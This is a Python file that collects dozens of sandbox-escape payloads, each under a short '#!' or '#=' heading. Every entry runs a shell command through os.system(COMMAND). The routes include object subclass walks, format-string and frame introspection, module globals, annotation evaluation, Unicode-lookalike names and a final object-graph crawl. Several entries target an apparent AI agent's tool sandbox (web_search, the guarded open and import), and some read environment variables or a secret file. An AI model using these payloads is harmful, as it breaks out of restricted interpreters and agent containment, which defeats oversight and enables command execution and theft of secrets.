# Attacks that walk from a harmless object to the interpreter's inner parts, and from there to a shell.

#! subclasses of object
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == '_wrap_close':
        kind.__init__.__globals__['system'](COMMAND)

#! subclasses by concatenated names
base = getattr(getattr((), '__cl' + 'ass__'), '__ba' + 'se__')
for kind in getattr(base, '__subcl' + 'asses__')():
    if kind.__name__ == '_wrap_close':
        getattr(getattr(kind, '__in' + 'it__'), '__glo' + 'bals__')['system'](COMMAND)

#! subclasses through type
for kind in type.__subclasses__(object):
    if kind.__name__ == '_wrap_close':
        kind.__init__.__globals__['system'](COMMAND)

#! class made by type
Made = type('Made', (), {'__getitem__': lambda self, key: self.__class__.__mro__[-1].__subclasses__()})
for kind in Made()[0]:
    if kind.__name__ == '_wrap_close':
        kind.__init__.__globals__['system'](COMMAND)

#! format string reads globals
import random
leak = '{0.__init__.__globals__[_os].environ}'.format(random.Random)
print(leak)
'{0.__class__.__mro__}'.format(1)
random._os.system(COMMAND)

#! format string with an index
class Holder:
    def method(self):
        pass
print('{0.method.__globals__[ENV_NAME]}'.format(Holder()))
print('{0.method.__globals__[__builtins__]}'.format(Holder()))
print('{0.method.__func__.__builtins__[__import__]}'.format(Holder()))
Holder.method.__globals__['__builtins__']
Holder.method.__builtins__['__import__']('os').system(COMMAND)

#! format_map
class Reader(dict):
    def __missing__(self, key):
        return Reader.__missing__
print('{x.__globals__}'.format_map(Reader()))
Reader.__missing__.__builtins__['__import__']('os').system(COMMAND)

#! string.Formatter
import string
def anchor():
    pass
builtins_ = string.Formatter().get_field('0.__builtins__', (anchor,), {})[0]
builtins_['__import__']('os').system(COMMAND)

#! own formatter class
import string
class Walker(string.Formatter):
    def format_field(self, value, spec):
        self.found = value
        return ''
def anchor():
    pass
walker = Walker()
walker.format('{0.__builtins__}', anchor)
walker.found['__import__']('os').system(COMMAND)

#! percent format with a mapping
class Evil(dict):
    def __getitem__(self, key):
        return eval(key)
print('%(__import__("os").system(COMMAND))s' % Evil())

#! f-string attribute walk
print(f'{().__class__.__base__.__subclasses__()[100:101]}')
def anchor():
    pass
print(f'{anchor.__builtins__["__import__"]("os").system(COMMAND)}')

#! os behind random
import random
random._os.system(COMMAND)

#! sys behind collections
import collections
collections._sys.modules['os'].system(COMMAND)

#! open behind json
import json
print(json.codecs.builtins.open(SECRET_FILE).read())
json.codecs.builtins.__import__('os').system(COMMAND)

#= os behind other modules
import importlib
names = ['statistics', 're', 'csv', 'datetime', 'uuid', 'difflib', 'textwrap', 'calendar', 'decimal', 'fractions', 'secrets', 'zoneinfo', 'html', 'pprint', 'sqlite3', 'zipfile', 'pathlib', 'glob', 'typing', 'dataclasses', 'enum', 'contextlib', 'functools', 'string', 'urllib.parse', 'xml.etree.ElementTree', 'gzip', 'hashlib', 'io', 'copy', 'heapq']
found = None
for name in names:
    module = __import__(name)
    for attribute in ('os', '_os', 'sys', '_sys', 'io', 'builtins', 'codecs', 'shutil', 'subprocess', 'importlib'):
        inner = getattr(module, attribute, None)
        if inner is None:
            continue
        print(name, attribute)
        system = getattr(inner, 'system', None) or getattr(getattr(inner, 'modules', {}).get('os'), 'system', None)
        if system:
            system(COMMAND)

#! globals of a function of an allowed module
import statistics
statistics.NormalDist.__init__.__globals__['sys'].modules['os'].system(COMMAND)

#! globals of a method of pathlib
import pathlib
pathlib.Path.exists.__globals__['os'].system(COMMAND)

#! os behind pathlib and glob
import pathlib, glob
getattr(glob, 'os', None) and glob.os.system(COMMAND)
getattr(pathlib, 'os', None) and pathlib.os.system(COMMAND)

#! os behind os.path
import os.path
os.path.os.system(COMMAND)

#! path imported from os
from os import path
path.os.system(COMMAND)

#! parent package of os.path
import os.path
os.system(COMMAND)

#! builtins behind print
print.__self__.__import__('os').system(COMMAND)

#! builtins behind a bound method
''.join.__self__
len.__self__.__import__('os').system(COMMAND)

#! builtins taken from the namespace
space = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
space['__import__']('os').system(COMMAND)

#! builtins out of globals()
space = globals()['__builtins__']
(space if isinstance(space, dict) else vars(space))['__import__']('os').system(COMMAND)

#! loader in the namespace
__loader__.load_module('os').system(COMMAND)

#! spec of a module
import math
math.__spec__.loader.load_module('posix').system(COMMAND)

#! frame of a generator
def spin():
    yield spinner.gi_frame
spinner = spin()
frame = next(spinner)
while frame.f_back:
    frame = frame.f_back
frame.f_builtins['__import__']('os').system(COMMAND)

#! frame of a coroutine
async def wait():
    return 1
routine = wait()
routine.cr_frame.f_builtins['__import__']('os').system(COMMAND)

#! frame of an asynchronous generator
async def spin():
    yield 1
spin().ag_frame.f_builtins['__import__']('os').system(COMMAND)

#! frame of a generator expression
expression = (x for x in [1])
expression.gi_frame.f_builtins['__import__']('os').system(COMMAND)

#! generator inside a context manager
import contextlib
@contextlib.contextmanager
def manage():
    yield 1
manager = manage()
manager.gen.gi_frame.f_builtins['__import__']('os').system(COMMAND)

#! traceback frame
try:
    1 / 0
except ZeroDivisionError as error:
    error.__traceback__.tb_frame.f_builtins['__import__']('os').system(COMMAND)

#! traceback given to __exit__
class Catcher:
    def __exit__(self, kind, error, trace):
        getattr(trace, 'tb_' + 'frame').f_builtins['__import__']('os').system(COMMAND)
        return True
    def __enter__(self):
        return self
with Catcher():
    1 / 0

#! traceback frame by a class pattern
class Catcher:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        match trace:
            case object(tb_frame=frame):
                match frame:
                    case object(f_builtins=found):
                        found['__import__']('os').system(COMMAND)
        return True
with Catcher():
    1 / 0

#! frames of the kernel in a foreign traceback
try:
    web_search(unknown=object())
except BaseException as error:
    trace = error.__traceback__
    while trace.tb_next:
        trace = trace.tb_next
    print(sorted(trace.tb_frame.f_globals)[:3])
    trace.tb_frame.f_builtins['__import__']('os').system(COMMAND)

#! frame by sys
import sys
sys._getframe().f_builtins['__import__']('os').system(COMMAND)

#! frame by inspect
import inspect
inspect.currentframe().f_back.f_builtins['__import__']('os').system(COMMAND)

#! class pattern with a metaclass
def anchor():
    pass
class Meta(type):
    def __instancecheck__(cls, thing):
        return True
class Any(metaclass=Meta):
    pass
match anchor:
    case Any(__builtins__=found):
        found['__import__']('os').system(COMMAND)

#! match arguments
def anchor():
    pass
class Meta(type):
    def __instancecheck__(cls, thing):
        return True
class Any(metaclass=Meta):
    __match_args__ = ('__builtins__',)
match anchor:
    case Any(found):
        found['__import__']('os').system(COMMAND)

#! match arguments set later
def anchor():
    pass
class Meta(type):
    def __instancecheck__(cls, thing):
        return True
    @property
    def __match_args__(cls):
        return ('__builtins__',)
class Any(metaclass=Meta):
    pass
match anchor:
    case Any(found):
        found['__import__']('os').system(COMMAND)

#! attribute getter of operator
import operator
def anchor():
    pass
operator.attrgetter('__builtins__')(anchor)['__import__']('os').system(COMMAND)

#! method caller of operator
import operator
operator.methodcaller('__subclasses__')(object)
operator.methodcaller('system', COMMAND)(__import__('os'))

#! getattr through functools
import functools
def anchor():
    pass
found = functools.reduce(getattr, ['__builtins__'], anchor)
found['__import__']('os').system(COMMAND)

#! getattr through map
def anchor():
    pass
found = list(map(getattr, [anchor], ['__builtins__']))[0]
found['__import__']('os').system(COMMAND)

#! getattr through a partial
import functools
def anchor():
    pass
functools.partial(getattr, anchor)('__builtins__')['__import__']('os').system(COMMAND)

#! attribute name that is a string of another class
class Sly(str):
    looks = 0
    __hash__ = str.__hash__
    def startswith(self, *_):
        return False
    def endswith(self, *_):
        return False
    def __eq__(self, other):
        Sly.looks += 1
        return Sly.looks > 4 and str.__eq__(self, other)
    def __getitem__(self, key):
        return 'x'
def anchor():
    pass
for _ in range(10):
    try:
        found = getattr(anchor, Sly('__builtins__'))
    except AttributeError:
        continue
    found['__import__']('os').system(COMMAND)
    break

#! object.__getattribute__
def anchor():
    pass
object.__getattribute__(anchor, '__builtins__')['__import__']('os').system(COMMAND)

#! type.__getattribute__
type.__getattribute__(object, '__subclasses__')()
def anchor():
    pass
type(anchor).__getattribute__(anchor, '__builtins__')['__import__']('os').system(COMMAND)

#! descriptor of the function type
def anchor():
    pass
vars(type(anchor))['__builtins__'].__get__(anchor)['__import__']('os').system(COMMAND)

#! super
class Child(dict):
    def go(self):
        return super().__init__.__self__.__class__.__base__.__base__.__subclasses__()
for kind in Child().go():
    if kind.__name__ == '_wrap_close':
        kind.__init__.__globals__['system'](COMMAND)

#! class attributes of a metaclass
class Meta(type):
    def mro(cls):
        return super().mro()
class Thing(metaclass=Meta):
    pass
Meta.mro.__globals__
Meta.mro.__builtins__['__import__']('os').system(COMMAND)

#! __prepare__ of a metaclass
class Space(dict):
    def __missing__(self, key):
        return eval('__import__("os").system(COMMAND)')
class Meta(type):
    @classmethod
    def __prepare__(meta, name, bases):
        return Space()
class Thing(metaclass=Meta):
    unknown_name

#! property getter
class Thing:
    @property
    def value(self):
        return 1
Thing.value.fget.__builtins__['__import__']('os').system(COMMAND)

#! cached property
import functools
class Thing:
    @functools.cached_property
    def value(self):
        return 1
vars(Thing)['value'].func.__builtins__['__import__']('os').system(COMMAND)

#! wrapped function
import functools
@functools.lru_cache
def anchor():
    return 1
anchor.__wrapped__.__builtins__['__import__']('os').system(COMMAND)

#! partial function
import functools, statistics
functools.partial(statistics.mean).func.__globals__['sys'].modules['os'].system(COMMAND)

#= closure of a tool
web_search.__closure__[0].cell_contents
for cell in web_search.__closure__:
    print(type(cell.cell_contents))
web_search.__builtins__['__import__']('os').system(COMMAND)

#= globals of a tool
web_search.__globals__['os'].system(COMMAND)

#= globals of print
print.__globals__['sys'].modules['os'].system(COMMAND)

#= globals of the guarded open
open.__globals__['os'].system(COMMAND)

#= closure of the guarded import
found = __import__
found.__globals__['os'].system(COMMAND)

#! object that an error carries
try:
    print.missing
except AttributeError as error:
    error.obj.__self__.__import__('os').system(COMMAND)

#! context of an error
try:
    try:
        1 / 0
    finally:
        missing_name
except NameError as error:
    error.__context__.__traceback__.tb_frame.f_builtins['__import__']('os').system(COMMAND)

#! type hints evaluated
import typing
class Thing:
    x: "__import__('os').system(COMMAND)"
typing.get_type_hints(Thing, {'COMMAND': COMMAND})

#! annotations evaluated by inspect
import inspect
def thing(x: "__import__('os').system(COMMAND)"):
    pass
inspect.signature(thing, eval_str=True)

#! annotations evaluated by a dispatcher
import functools
@functools.singledispatch
def thing(x):
    pass
@thing.register
def _(x: "__import__('os').system(COMMAND)"):
    pass

#! forward reference
import typing
typing.ForwardRef("__import__('os').system(COMMAND)").evaluate(globals=globals())

#! dataclass with a type that is code
import dataclasses
dataclasses.make_dataclass('Thing', [('x', "__import__('os').system(COMMAND)")])
@dataclasses.dataclass
class Other:
    x: "__import__('os').system(COMMAND)" = 1
print(dataclasses.fields(Other)[0].type)
import typing
typing.get_type_hints(Other, {'COMMAND': COMMAND})

#= dataclass with a field name that is code
import dataclasses
class Sly(str):
    def isidentifier(self):
        return True
name = Sly('x=__import__("os").system(%r)' % COMMAND)
dataclasses.make_dataclass('Thing', [(name, int)])

#= named tuple with a field name that is code
import collections
class Sly(str):
    def isidentifier(self):
        return True
    def __str__(self):
        return self
name = Sly('x=__import__("os").system(%r)' % COMMAND)
collections.namedtuple('Thing', [name])

#! enumeration with a hook
import enum
class Loud(enum.Enum):
    def _generate_next_value_(name, start, count, last):
        return eval('__import__("os").system(COMMAND)')
    A = enum.auto()

#! __build_class__
def body():
    return eval('__import__("os").system(COMMAND)')
__build_class__(body, 'Thing')

#! names in full-width letters
ｅｖａｌ('__ｉｍｐｏｒｔ__("os").system(COMMAND)'.replace('ｉｍｐｏｒｔ', 'import'))

#! attribute in mathematical letters
().__𝐜𝐥𝐚𝐬𝐬__.__𝐛𝐚𝐬𝐞__.__𝐬𝐮𝐛𝐜𝐥𝐚𝐬𝐬𝐞𝐬__()
def anchor():
    pass
anchor.__𝐛𝐮𝐢𝐥𝐭𝐢𝐧𝐬__['__import__']('os').system(COMMAND)

#! eval of concatenated text
eval('__imp' + 'ort__("os").sys' + 'tem(COMMAND)')

#! exec of decoded text
import base64
exec(base64.b64decode(base64.b64encode(b'import os\nos.system(COMMAND)')))

#! compile and exec
exec(compile('import os\nos.system(COMMAND)', 'x', 'exec'))

#! compile of a tree
import ast
tree = ast.parse('import os\nos.system(COMMAND)')
exec(compile(tree, 'x', 'exec'))

#! exec with builtins of our own
exec('import os\nos.system(COMMAND)', {'__builtins__': {'__import__': __import__}, 'COMMAND': COMMAND})

#! exec with locals that act
class Space(dict):
    def __missing__(self, key):
        return __builtins__
exec('found = anything', {}, Space())
import os
os.system(COMMAND)

#! eval default in a lambda of a lambda
(lambda f=eval: f('__import__("os").system(COMMAND)'))()

#! decorator that is eval
@eval
@(lambda f: '__import__("os").system(COMMAND)')
class Thing:
    pass

#! operator overloading that is eval
class Thing:
    __getitem__ = eval
    __class_getitem__ = classmethod(lambda cls, text: eval(text))
Thing['__import__("os").system(COMMAND)']

#= help system
help('modules')
import pydoc
pydoc.locate('os.system')(COMMAND)

#! breakpoint hook
import sys, os
sys.breakpointhook = lambda: os.system(COMMAND)
breakpoint()

#! input evaluates
try:
    input('x')
except EOFError:
    pass
import os
os.system(COMMAND)

#! exit object
exit.__init__.__globals__['sys'].modules['os'].system(COMMAND)

#! licence printer
license._Printer__filenames
license.__class__.__init__.__globals__['sys'].modules['os'].system(COMMAND)

#= crawl from everything in reach to a shell
seen = set()
queue = [print, open, web_search, ToolError] if 'ToolError' in dir() else [print, open]
for name in ['math', 'json', 're', 'random', 'pathlib', 'zipfile', 'sqlite3', 'csv', 'datetime', 'collections', 'functools', 'typing', 'io', 'glob', 'statistics', 'contextlib', 'xml.etree.ElementTree', 'html.parser', 'zoneinfo', 'uuid', 'secrets', 'dataclasses', 'enum', 'string', 'time', 'gzip', 'decimal']:
    try:
        queue.append(__import__(name))
    except ImportError:
        pass
count = 0
while queue and count < 20000:
    thing = queue.pop(0)
    if id(thing) in seen:
        continue
    seen.add(id(thing))
    count += 1
    for name in dir(thing):
        try:
            inner = getattr(thing, name)
        except BaseException:
            continue
        if name == 'system' and callable(inner):
            inner(COMMAND)
        if name == '__import__':
            inner('os').system(COMMAND)
        if name in ('__globals__', '__builtins__') and isinstance(inner, dict):
            queue.extend(inner.values())
        if type(inner).__name__ in ('module', 'function', 'type', 'builtin_function_or_method', 'method') or 'Loader' in type(inner).__name__:
            queue.append(inner)
print(count)
